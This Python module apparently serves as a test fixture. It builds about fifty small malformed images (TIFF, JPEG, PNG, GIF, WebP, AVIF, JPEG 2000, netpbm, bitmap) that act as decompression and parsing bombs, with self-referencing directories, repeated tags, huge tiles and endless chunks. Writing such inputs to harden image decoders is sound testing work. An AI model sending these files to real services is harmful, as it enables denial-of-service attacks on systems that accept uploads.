"""Images that cost their reader far more than they weigh, each small enough to be sent."""

import io
import struct
import zlib
from collections.abc import Callable, Sequence

from PIL import Image

TAGS_OF_16_PIXELS = [
    (256, 3, 1, 16),
    (257, 3, 1, 16),
    (258, 3, 1, 8),
    (259, 3, 1, 1),
    (262, 3, 1, 1),
    (273, 4, 1, 0),
    (277, 3, 1, 1),
    (278, 3, 1, 16),
    (279, 4, 1, 256),
]
Entry = tuple[int, int, int, int]


def plain(kind: str = "PNG", **options: object) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(file, kind, **options)
    return file.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_with(*chunks: bytes) -> bytes:
    """A PNG with these chunks before its data."""
    data = plain()
    return data[:33] + b"".join(chunks) + data[33:]


def jpeg_with(*segments: tuple[int, bytes]) -> bytes:
    """A JPEG with these segments, by their markers, before its own."""
    data = plain("JPEG")
    return (
        data[:2] + b"".join(struct.pack(">BBH", 0xFF, mark, len(body) + 2) + body for mark, body in segments) + data[2:]
    )


def exif_jpeg(exif: bytes) -> bytes:
    """A JPEG whose Exif block is joined from as many segments as it takes."""
    step = 65535 - 8
    return jpeg_with(*((0xE1, b"Exif\0\0" + exif[at : at + step]) for at in range(0, max(1, len(exif)), step)))


def webp_with(kind: bytes, body: bytes) -> bytes:
    """A WebP of the extended kind with one more chunk."""
    inner = plain("WEBP", lossless=True)[12:]
    head = b"VP8X" + struct.pack("<L", 10) + bytes([0x08, 0, 0, 0, 15, 0, 0, 15, 0, 0])
    whole = b"WEBP" + head + inner + kind + struct.pack("<L", len(body)) + body + b"\0" * (len(body) % 2)
    return b"RIFF" + struct.pack("<L", len(whole)) + whole


def tiff_of(entries: Sequence[Entry], num_bytes: int, following: int = 0, order: str = "<") -> bytes:
    """A TIFF of one directory of those entries, and zeros up to a length."""
    head = (b"II*\0" if order == "<" else b"MM\0*") + struct.pack(order + "L", 8)
    directory = struct.pack(order + "H", len(entries) % 65536)
    directory += b"".join(struct.pack(order + "HHLL", *entry) for entry in entries) + struct.pack(
        order + "L", following
    )
    return (head + directory).ljust(num_bytes, b"\0")


def tiff_one_payload(num_tags: int = 64, payload: int = 2_000_000, kind: int = 1) -> bytes:
    """Tags that all point at the same bytes."""
    size = {1: 1, 3: 2, 4: 4, 5: 8}[kind]
    tags = [(40000 + number, kind, payload // size, 8) for number in range(num_tags)]
    return tiff_of([*TAGS_OF_16_PIXELS, *tags], payload + 1024 + 12 * num_tags)


def tiff_same_tag(num_tags: int = 65_000, payload: int = 2_000_000) -> bytes:
    """One tag again and again."""
    return tiff_of([*TAGS_OF_16_PIXELS, *[(40000, 1, payload, 8)] * num_tags], payload + 1024 + 12 * num_tags)


def tiff_fractions(count: int = 250_000) -> bytes:
    return tiff_of([*TAGS_OF_16_PIXELS, (40000, 5, count, 8)], 8 * count + 1024)


def tiff_behind_pointers(tag: int = 34665) -> bytes:
    """A directory behind a pointer, whose tags point at one payload, and that points at itself."""
    start = 8 + 2 + 12 * (len(TAGS_OF_16_PIXELS) + 1) + 4
    inner = [(40000 + number, 1, 1_000_000, 8) for number in range(64)] + [(tag, 4, 1, start)]
    directory = struct.pack("<H", len(inner)) + b"".join(struct.pack("<HHLL", *entry) for entry in inner) + bytes(4)
    return (tiff_of([*TAGS_OF_16_PIXELS, (tag, 4, 1, start)], 0) + directory).ljust(1_001_000, b"\0")


def tiff_huge_tile() -> bytes:
    tags = [entry for entry in TAGS_OF_16_PIXELS if entry[0] not in (259, 273, 278, 279)]
    tags += [(259, 3, 1, 5), (322, 4, 1, 30_000), (323, 4, 1, 30_000), (324, 4, 1, 500), (325, 4, 1, 16)]
    return tiff_of(sorted(tags), 1024)


def gif_with(extensions: bytes) -> bytes:
    """A GIF with these bytes before its picture."""
    data = plain("GIF")
    place = 13 + 3 * 2 ** ((data[10] & 7) + 1)
    return b"GIF89a" + data[6:place] + extensions + data[place:]


def gif_comment(num_bytes: int = 2**21, block: int = 1) -> bytes:
    """A comment of very short sub-blocks."""
    return gif_with(b"!\xfe" + (bytes([block]) + b"a" * block) * (num_bytes // (block + 1)) + b"\0")


def avif_extents(num_extents: int = 4000) -> bytes:
    """An AVIF whose Exif item is its whole file again and again."""
    infe = b"\2\0\0\0" + struct.pack(">HH", 1, 0) + b"Exif\0"
    infe = struct.pack(">L4s", 8 + len(infe), b"infe") + infe
    iinf = b"\0\0\0\0" + struct.pack(">H", 1) + infe
    extents = struct.pack(">LL", 0, 10**6) * num_extents
    iloc = b"\0\0\0\0" + b"\x44\0" + struct.pack(">HHHH", 1, 1, 0, num_extents) + extents
    boxes = b"".join(struct.pack(">L4s", 8 + len(box), kind) + box for kind, box in ((b"iinf", iinf), (b"iloc", iloc)))
    meta = struct.pack(">L4s", 12 + len(boxes), b"meta") + b"\0\0\0\0" + boxes
    return (struct.pack(">L4s", 20, b"ftyp") + b"avif\0\0\0\0avif" + meta).ljust(10**6, b"\0")


def codestream(width: int, height: int, *, tile: int = 0, components: int = 3, coding: bytes = b"") -> bytes:
    """A JPEG 2000 codestream of those numbers, and no data."""
    sides = (width, height, 0, 0, tile or width, tile or height, 0, 0)
    size = struct.pack(">H8LH", 0, *sides, components) + b"\7\1\1" * components
    coding = coding or b"\0" + b"\0\0\1\0" + bytes([5, 4, 4, 0, 1])
    cod = struct.pack(">HH", 0xFF52, 2 + len(coding)) + coding
    quantisation = struct.pack(">HHB", 0xFF5C, 19, 0x40) + bytes(16)
    part = struct.pack(">HHHLBB", 0xFF90, 10, 0, 0, 0, 1) + b"\xff\x93"
    return (
        b"\xff\x4f\xff\x51"
        + struct.pack(">H", 2 + len(size))
        + size
        + cod
        + quantisation
        + part
        + bytes(64)
        + b"\xff\xd9"
    )


def jp2_of(stream: bytes, width: int, height: int, components: int = 3) -> bytes:
    def box(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L4s", 8 + len(body), kind) + body

    header = box(b"ihdr", struct.pack(">LLHBBBB", height, width, components, 7, 7, 0, 0))
    header += box(b"colr", struct.pack(">BBBL", 1, 0, 0, 16))
    brand = b"jp2 \0\0\0\0jp2 "
    return box(b"jP  ", b"\r\n\x87\n") + box(b"ftyp", brand) + box(b"jp2h", header) + box(b"jp2c", stream)


def progressive_scans(num_scans: int = 2000) -> bytes:
    """A progressive JPEG that refines itself over and over."""
    data = plain("JPEG", progressive=True)
    scan = struct.pack(">BBHB", 0xFF, 0xDA, 8, 1) + bytes([1, 0, 0, 0, 0x10]) + b"\0"
    return data[:-2] + scan * num_scans + data[-2:]


def run_lengths(width: int, height: int) -> bytes:
    """A bitmap that skips 255 rows."""
    head = struct.pack("<LllHHLLLLLL", 40, width, height, 1, 8, 1, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<LHHL", 54 + 1024 + 8, 0, 0, 54 + 1024) + head + bytes(1024) + b"\0\2\0\xff\0\2\0\xff"


# By what is too much of them.
BOMBS: dict[str, Callable[[], bytes]] = {
    "tiff one payload": tiff_one_payload,
    "tiff one payload, shorts": lambda: tiff_one_payload(kind=3),
    "tiff same tag": tiff_same_tag,
    "tiff fractions": tiff_fractions,
    "tiff numbers": lambda: tiff_of([*TAGS_OF_16_PIXELS, (40000, 3, 2_000_000, 8)], 4_001_000),
    "tiff strips": lambda: tiff_of([*TAGS_OF_16_PIXELS[:5], (273, 4, 10**6, 8), *TAGS_OF_16_PIXELS[6:]], 4_001_000),
    "tiff Exif directory": tiff_behind_pointers,
    "tiff GPS directory": lambda: tiff_behind_pointers(34853),
    "tiff tile": tiff_huge_tile,
    "exif in jpeg": lambda: exif_jpeg(tiff_one_payload(600, 60_000)),
    "exif in jpeg, joined": lambda: exif_jpeg(tiff_one_payload()),
    "exif in jpeg, same tag": lambda: exif_jpeg(tiff_same_tag(payload=1000)),
    "exif segments": lambda: jpeg_with(*[(0xE1, b"Exif\0\0\0")] * 20_000),
    "exif headers": lambda: exif_jpeg(b"Exif\0\0" * 300_000),
    "jpeg segments": lambda: jpeg_with(*[(0xE5, b"")] * 20_000),
    "jpeg stray bytes": lambda: (data := plain("JPEG"))[:20] + bytes(2**20) + data[20:],
    "jpeg padding": lambda: (data := plain("JPEG"))[:20] + b"\xff" * 2**20 + data[20:],
    "jpeg scans": progressive_scans,
    "jpeg frame headers": lambda: jpeg_with(*[(0xC0, b"\x08\0\x10\0\x10\3" + b"\1\x11\0" * 20_000)] * 20),
    "wide bitmap of run lengths": lambda: run_lengths(2**24, 1),
    "large bitmap of run lengths": lambda: run_lengths(6000, 6000),
    "mpf index": lambda: jpeg_with((0xE2, b"MPF\0" + tiff_one_payload(2000, 30_000)[:60_000])),
    "exif in png": lambda: png_with(chunk(b"eXIf", tiff_one_payload())),
    "exif in png text": lambda: png_with(
        chunk(
            b"zTXt",
            b"Raw profile type exif\0\0"
            + zlib.compress(b"\nexif\n1\n" + tiff_one_payload(500, 300_000).hex().encode()),
        )
    ),
    "exif in webp": lambda: webp_with(b"EXIF", tiff_one_payload()),
    "webp chunks": lambda: webp_with(b"ABCD", b"") + b"ABCD\0\0\0\0" * 20_000,
    "png texts": lambda: png_with(*(chunk(b"tEXt", b"k%d\0v" % number) for number in range(20_000))),
    "png compressed texts": lambda: png_with(*[chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(2**20 - 10), 9))] * 60),
    "png chunks": lambda: png_with(*[chunk(b"abCd", b"")] * 20_000),
    "png data chunks": lambda: png_with(*[chunk(b"IDAT", b"")] * 200_000),
    "gif comment": gif_comment,
    "gif comment of long blocks": lambda: gif_comment(block=255),
    "gif comments": lambda: gif_with(b"!\xfe\1a\0" * 200_000),
    "gif stray bytes": lambda: gif_with(b"\1" * 2**20),
    "gif comment behind stray bytes": lambda: gif_with(b"\1\2\3!\xfe" + b"\1a" * 2**20 + b"\0"),
    "gif comment behind an empty extension": lambda: gif_with(b"!\1\0\1a\0!\xfe" + b"\1a" * 2**20 + b"\0"),
    "gif sub-blocks": lambda: gif_with(b"!\xff\x0bABCDEFGHIJK" + b"\1a" * 2**20 + b"\0"),
    "ppm comment": lambda: b"P6 #" + b"x" * 2**20 + b"\n1 1 255\nabc",
    "ppm comments in a word": lambda: b"P6 1" + b"#x\n" * 2**19 + b" 1 255\nabc",
    "plain bitmap": lambda: b"P1 10000 10000\n" + b"1" * (2**24 + 1),
    "avif item of many parts": avif_extents,
    "boxes": lambda: struct.pack(">L4s", 16, b"ftyp") + b"avif\0\0\0\0" + struct.pack(">L4s", 8, b"free") * 20_000,
    "jp2 boxes": lambda: jp2_of(b"", 8, 8)[:12] + struct.pack(">L4s", 8, b"free") * 20_000,
    "jpeg 2000 tiles": lambda: codestream(4000, 4000, tile=4),
    "jpeg 2000 code blocks": lambda: codestream(7000, 7000, coding=b"\0\0\0\1\0" + bytes([5, 0, 0, 0, 1])),
    "jpeg 2000 precincts": lambda: codestream(7000, 7000, coding=b"\1\0\0\1\0" + bytes([0, 4, 4, 0, 1, 0x11])),
    "jpeg 2000 layers": lambda: codestream(8, 8, coding=b"\0\0\xff\xff\0" + bytes([5, 4, 4, 0, 1])),
    "jpeg 2000 components": lambda: jp2_of(codestream(8, 8, components=16_000), 8, 8),
}


def slow_netpbm(width: int = 2500, height: int = 2000) -> bytes:
    """A PPM that is decoded sample by sample in Python: nothing is wrong with it but the seconds that takes."""
    return b"P6 %d %d 254\n" % (width, height) + bytes(3 * width * height)
